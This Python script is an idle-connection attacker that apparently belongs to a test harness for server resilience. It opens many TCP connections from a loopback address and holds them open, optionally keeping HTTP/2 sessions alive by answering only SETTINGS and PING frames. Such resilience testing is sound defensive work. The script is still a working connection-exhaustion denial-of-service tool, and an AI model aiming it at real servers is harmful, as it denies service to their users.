"""An attacker that holds idle connections: opens COUNT TCP connections to HOST:PORT (from
--source, a loopback address of its own), prints {"opened": N} once they are open, holds them
for HOLD seconds, then prints {"open_at_end": N} and exits. With --h2 each connection sends
the HTTP/2 preface and answers the server's SETTINGS and keepalive PINGs, and nothing else
(no request, no token). Run as an unprivileged user by attack_round2.py; standard library
only."""

import argparse
import asyncio
import json
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, PING, GOAWAY = 4, 6, 7
ACK = 1


def frame(kind, flags, payload=b"", stream=0):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


async def answer_h2(reader, writer):
    """Answers SETTINGS and PING frames until the server closes or sends GOAWAY."""
    writer.write(PREFACE + frame(SETTINGS, 0))
    while True:
        head = await reader.readexactly(9)
        length = int.from_bytes(head[:3], "big")
        kind, flags = head[3], head[4]
        payload = await reader.readexactly(length)
        if kind == SETTINGS and not flags & ACK:
            writer.write(frame(SETTINGS, ACK))
        elif kind == PING and not flags & ACK:
            writer.write(frame(PING, ACK, payload))
        elif kind == GOAWAY:
            return


async def hold(a, tally, gate):
    """One connection: opened under the gate (at most 256 connects at once), then idle."""
    async with gate:
        try:
            # Bounded, so that a server that stops accepting cannot hold the attack.
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(a.host, a.port, local_addr=(a.source, 0)), 5)
        except OSError:  # TimeoutError included
            tally["tried"] += 1
            return
    tally["tried"] += 1
    tally["opened"] += 1
    tally["open"] += 1
    try:
        if a.h2:
            await answer_h2(reader, writer)
        # Idle until the server closes (a read returns b"") or the hold ends (cancelled).
        while await reader.read(65536):
            pass
    except (OSError, asyncio.IncompleteReadError):
        pass
    finally:
        tally["open"] -= 1
        writer.close()


async def main(a):
    tally = {"tried": 0, "opened": 0, "open": 0}
    gate = asyncio.Semaphore(256)
    tasks = [asyncio.create_task(hold(a, tally, gate)) for _ in range(a.count)]
    while tally["tried"] < a.count:
        await asyncio.sleep(0.05)
    print(json.dumps({"opened": tally["opened"]}), flush=True)
    await asyncio.sleep(a.hold)
    print(json.dumps({"open_at_end": tally["open"]}), flush=True)
    for t in tasks:
        t.cancel()


if __name__ == "__main__":
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("count", type=int)
    ap.add_argument("hold", type=float)
    ap.add_argument("--source", default="127.0.0.2")
    ap.add_argument("--h2", action="store_true")
    asyncio.run(main(ap.parse_args()))
